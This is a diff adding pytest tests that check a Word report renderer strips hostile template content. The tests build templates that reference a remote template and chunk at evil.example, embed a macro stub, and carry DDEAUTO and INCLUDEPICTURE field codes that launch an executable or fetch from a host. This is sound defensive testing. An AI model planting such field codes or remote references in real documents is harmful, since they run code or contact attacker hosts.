@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
 from functools import cache
 from pathlib import Path
@@ -10,6 +11,9 @@ from pathlib import Path
 import docx
 import pandas as pd
 import pytest
+from docx.opc.packuri import PackURI
+from docx.opc.part import Part
+from docx.oxml import OxmlElement
 from docx.oxml.ns import qn
 from docx.shared import Inches
 
@@ -195,13 +199,67 @@ def test_a_template_gives_its_styles_and_not_its_text(name: str, kind: str, tmp_
     assert render_word(make_report(), template=template) == content
 
 
+SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+SECRET = "qzx of the last report"
+
+
+def make_hostile(path: Path, field: str = "") -> Path:
+    """A template with remarks, a source of data, a template of its own elsewhere, and macros."""
+    document = docx.Document()
+    document.add_comment(document.add_paragraph("x").runs, text=SECRET, author=SECRET)
+    header = document.sections[0].header.paragraphs[0]
+    header.add_run("State of X")
+    code = OxmlElement("w:instrText")
+    code.text = field
+    header.add_run()._r.append(code)
+    part = document.part.part_related_by(f"{SCHEMA}/settings")
+    for tag in ("attachedTemplate", "mailMerge", "docVars"):
+        part.element.append(OxmlElement(f"w:{tag}"))
+    far = part.relate_to("http://evil.example/t.dotm", f"{SCHEMA}/attachedTemplate", True)
+    part.element.find(qn("w:attachedTemplate")).set(qn("r:id"), far)
+    document.part.relate_to("http://evil.example/x.html", f"{SCHEMA}/aFChunk", True)
+    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"run")
+    document.part.relate_to(
+        macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+    )
+    custom = Part(PackURI("/docProps/custom.xml"), "application/xml", SECRET.encode())
+    document.part.package.relate_to(custom, f"{SCHEMA}/custom-properties")
+    document.save(str(path))
+    return path
+
+
+def test_a_template_gives_nothing_that_runs_fetches_or_remembers(tmp_path: Path) -> None:
+    path = make_hostile(tmp_path / "state.docx", field="PAGE")
+    words = (SECRET.encode(), b"evil.example", b"vbaProject", b"attachedTemplate", b"mailMerge")
+    with zipfile.ZipFile(path) as before:
+        whole = b"".join(map(before.read, before.namelist()))
+    assert all(word in whole for word in words)
+    with zipfile.ZipFile(io.BytesIO(render_word(make_report(), template=path))) as after:
+        kept = b"".join(map(after.read, after.namelist()))
+    assert [word for word in words if word in kept] == [] and b"State of X" in kept
+
+
+@pytest.mark.parametrize("field", ["DDEAUTO c:\\x.exe", " INCLUDEPICTURE http://x", "link Excel"])
+def test_a_header_that_fetches_is_refused(tmp_path: Path, field: str) -> None:
+    path = make_hostile(tmp_path / "state.docx", field=field)
+    with pytest.raises(pn.UsageError, match=r"state\.docx, whose header fetches something"):
+        render_word(make_report(), template=path)
+
+
 def test_what_is_no_template_is_refused_before_the_work(tmp_path: Path) -> None:
     def fail() -> Report:
         raise AssertionError("the work began")
 
     (tmp_path / "bad.docx").write_bytes(b"PK no file of Word")
     (tmp_path / "notes.txt").write_text("notes", encoding="utf-8")
-    for name in ("bad.docx", "notes.txt", "missing.dotx"):
+    good = make_template(tmp_path / "good.docx").read_bytes()
+    locked = bytearray(good)
+    for at in (found.start() for found in re.finditer(b"PK\x01\x02", good)):
+        locked[at + 8] |= 1  # a password
+    (tmp_path / "locked.docx").write_bytes(locked)
+    with zipfile.ZipFile(make_template(tmp_path / "large.docx"), "a", zipfile.ZIP_DEFLATED) as out:
+        out.writestr("word/media/a.png", bytes(100_000_001))
+    for name in ("bad.docx", "notes.txt", "missing.dotx", "locked.docx", "large.docx"):
         with pytest.raises(pn.UsageError, match="cannot be read as a Word file"):
             write_rendered(fail, tmp_path / "out.docx", template=tmp_path / name)
     with pytest.raises(pn.UsageError, match="Only Word files"):
